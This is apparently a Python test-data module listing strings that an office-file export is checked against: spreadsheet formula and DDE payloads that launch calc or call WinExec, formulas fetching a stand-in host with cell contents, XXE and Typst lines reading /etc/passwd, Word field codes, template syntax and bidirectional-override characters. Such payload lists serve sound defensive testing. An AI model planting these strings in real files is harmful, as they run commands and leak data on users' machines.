"""What somebody could type to have an office program do something: one list for every file that leaves.

Gathered from the kinds of attack that are publicly described: formulas by every sign that begins one,
the same behind what is not seen, full-width signs, breaks out of a CSV's cell, fields and scripts of
templates, markup of the typesetter and of XML, and what turns the direction of reading.
"""

from __future__ import annotations

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=1+1\n", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    "\u00a0=1+1", "\u200b=1+1", "\u200f=1+1", "\u202e=1+1", "\u2066=1+1", "\ufeff=1+1", "\u00ad=1+1",
    "\u3000=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "=-1+1", "==1+1", "=+1+1",
    "+-1+1", "-+1+1", "@@SUM(1)", "'=1+1", '"=1+1', '"=1+1"', ";=1+1", ",=1+1", 'x";=1+1', 'x",=1+1',
    "x\n=1+1", "x\r=1+1", "x;\r\n=1+1;", "|calc", "%0A=1+1", "%3D1+1", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", '@SUM(1+9)*cmd|" /C calc"!A0',
    '=HYPERLINK("http://x.example";"her")', '=HYPERLINK("http://x.example/?"&A1,"her")',
    '=IMPORTXML("http://x.example","//a")', '=IMPORTDATA("http://x.example")',
    '=WEBSERVICE("http://x.example")', '=IMAGE("http://x.example/1.png")',
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "=MSEXCEL|'\\..\\..\\x'!''", "={1;2}", "{=1+1}",
    "of:=1+1", "oooc:=1+1", "msoxl:=1+1", "=INFO(\"system\")", "=CELL(\"filename\")",
    "=EXTERNALADDRESS(1)", "=RTD(\"x\",,\"y\")", "=CALL(\"Kernel32\",\"WinExec\",\"JFJ\",\"calc\",0)",
    "=REGISTER(\"x\",\"y\",\"z\")", "=EXEC(\"calc\")", "=Ark1!A1", "=SUM(A1:A9)", "=1/0", "=NOW()",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% load i18n %}", "{% now 'Y' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s",
    "{0}", "{x!r}", "$name", "#let x = 5", "#import \"x\": y", "#read(\"/etc/passwd\")", "#box[hej]", "$x^2$",
    "*fed* _skrå_", "= Overskrift", "- punkt", "@henvisning", "<etiket>", "\\#let", "`rå`", "&xxe;",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<script>alert(1)</script>", "<b>fed</b>", "]]>", "<!--",
    "<w:p/>", "</w:t></w:r>", "{ DDEAUTO c:\\\\x }", "{ INCLUDETEXT x }", "MERGEFIELD x", "BEGIN:VEVENT",
    "\\def\\x{y}", "\u202eabc", "\u2066abc\u2069",
)  # fmt: skip
EVERY = (*FORMULAS, *TEMPLATES)
